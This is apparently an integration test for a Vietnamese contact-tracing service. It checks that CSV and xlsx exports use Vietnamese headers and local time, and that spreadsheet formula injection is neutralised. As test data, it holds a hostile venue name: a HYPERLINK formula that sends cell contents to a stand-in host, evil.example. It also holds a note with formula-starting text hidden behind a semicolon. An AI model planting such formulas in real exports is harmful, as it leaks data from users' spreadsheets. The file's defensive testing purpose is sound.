"""Exports staff open (docs/api.md, "Exports") on the real stack: contacts, follow-ups, alerts and coverage as
CSV (UTF-8 BOM) and xlsx (opened with openpyxl, as a spreadsheet program would), Vietnamese headers, local
time with the offset, and formula text neutralised in both, also where ``;`` is the list separator."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
import pytest

from tests.integration.alerts.receiver import wait_for
from tests.integration.alerts.test_alert_delivery import _person, _post_scans, _register, _scan, _visits_of
from truyvet.auth import Role

pytestmark = pytest.mark.integration

WARD = "01852"
EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'
EVIL_NOTE = "Gọi lại;=1+1, -2+3 @SUM(A1)"
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _utc(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00"))


def _csv(r) -> list[list[str]]:  # noqa: ANN001
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv") and r.content.startswith(b"\xef\xbb\xbf")
    text = r.content.decode("utf-8-sig")
    # A spreadsheet whose list separator is ';' splits lines there: no piece may start a formula either.
    for line in text.splitlines():
        for piece in line.split(";"):
            assert not piece.strip(' "').startswith(FORMULA), line
    return list(csv.reader(io.StringIO(text)))


def _xlsx(r) -> list[list[object]]:  # noqa: ANN001
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    sheet = openpyxl.load_workbook(io.BytesIO(r.content)).active
    rows = []
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value  # never a formula
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA):
                assert cell.quotePrefix, cell.value  # shown as typed, stays text when edited
        rows.append([c.value for c in row])
    return rows


def _local(text: str) -> datetime:
    assert text.endswith("+07:00"), text
    return datetime.fromisoformat(text)


def test_exports_open_in_a_spreadsheet_in_vietnamese_and_local_time(services, db, token, http) -> None:
    url = services.trace_url
    registrar, device, epi = token(Role.registrar), token(Role.device), token(Role.epidemiologist)
    health, viewer = token(Role.health_center, WARD), token(Role.viewer)
    r = http.post(f"{services.ingest_url}/v1/venues", headers=registrar,
                  json={"name": EVIL_NAME, "category": "food_drink", "ward_code": WARD})
    assert r.status_code == 201, r.text
    venue = r.json()["venue_id"]
    now = datetime.now(UTC).replace(microsecond=0)
    t0 = now - timedelta(hours=6)
    case, contact = _person(), _person()
    _post_scans(http, services, device, [_scan(venue, case, t0), _scan(venue, contact, t0 + timedelta(minutes=7))])
    wait_for(lambda: _visits_of(db, [case, contact]) == {case, contact}, timeout=60, what="visits")
    case_id = _register(http, services, epi, case, now)
    wait_for(lambda: http.get(f"{url}/v1/follow-ups", headers=health, params={"case_id": case_id}).json()["follow_ups"],
             timeout=30, what="the contact's follow-up record")
    r = http.put(f"{url}/v1/follow-ups/{case_id}/{contact}", headers=health,
                 json={"status": "called", "note": EVIL_NOTE})
    assert r.status_code == 200, r.text
    updated_at = _utc(r.json()["updated_at"])

    # Contacts: the JSON's UTC times are the export's local times.
    js = http.get(f"{url}/v1/cases/{case_id}/contacts", headers=epi).json()["contacts"][0]["exposures"][0]
    for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
        rows = read(http.get(f"{url}/v1/cases/{case_id}/contacts", headers=epi, params={"format": fmt}))
        header, (row,) = rows[0], rows[1:]
        assert header[:3] == ["Mã ca bệnh", "Mã người", "Cấp (F)"] and "Tên địa điểm" in header
        cell = dict(zip(header, row, strict=True))
        assert _local(cell["Ca bệnh vào"]) == _utc(js["case_visit"]["t_in"])
        assert _local(cell["Người tiếp xúc vào"]) == _utc(js["contact_visit"]["t_in"])
        assert cell["Tên địa điểm"] == ("'" + EVIL_NAME if fmt == "csv" else EVIL_NAME)

    # Follow-ups: the note as typed (behind an apostrophe where it starts a formula in a ';' locale).
    for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
        rows = read(http.get(f"{url}/v1/follow-ups", headers=health, params={"case_id": case_id, "format": fmt}))
        header, (row,) = rows[0], rows[1:]
        assert header == ["Mã ca bệnh", "Mã người", "Cấp (F)", "Mã phường/xã", "Trạng thái", "Ghi chú", "Điện thoại",
                          "Cập nhật lúc", "Người cập nhật", "Ca bệnh mới"]
        cell = dict(zip(header, row, strict=True))
        assert (cell["Mã người"], cell["Trạng thái"]) == (contact, "đã gọi")
        assert cell["Ghi chú"] == ("Gọi lại;'=1+1, '-2+3 @SUM(A1)" if fmt == "csv" else EVIL_NOTE)
        assert _local(cell["Cập nhật lúc"]) == updated_at

    # Alerts.
    alert = http.get(f"{url}/v1/alerts", headers=health, params={"case_id": case_id}).json()["alerts"][0]
    for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
        rows = read(http.get(f"{url}/v1/alerts", headers=health, params={"case_id": case_id, "format": fmt}))
        cell = dict(zip(rows[0], rows[1], strict=True))
        assert cell["Mã cảnh báo"] == alert["alert_id"] and _local(cell["Tạo lúc"]) == _utc(alert["created_at"])
        assert cell["Trạng thái gửi"] in ("chờ gửi", "đang thử lại", "gửi thất bại", "đã gửi")

    # Coverage: the same numbers as the JSON report.
    day = (now + timedelta(hours=7)).date().isoformat()
    report = http.get(f"{url}/v1/reports/coverage", headers=viewer, params={"date": day, "ward_code": WARD}).json()
    for fmt, read in (("csv", _csv), ("xlsx", _xlsx)):
        rows = read(http.get(f"{url}/v1/reports/coverage", headers=viewer,
                             params={"date": day, "ward_code": WARD, "format": fmt}))
        assert rows[0] == ["Ngày", "Mã phường/xã", "Phường/xã", "Loại hình", "Phải quét", "Đã đăng ký", "Có quét",
                           "Lượt quét"]
        got = [(r[1], r[3], int(r[5])) for r in rows[1:]]
        assert got == [(x["ward_code"], x["category"], x["registered"]) for x in report["rows"]]
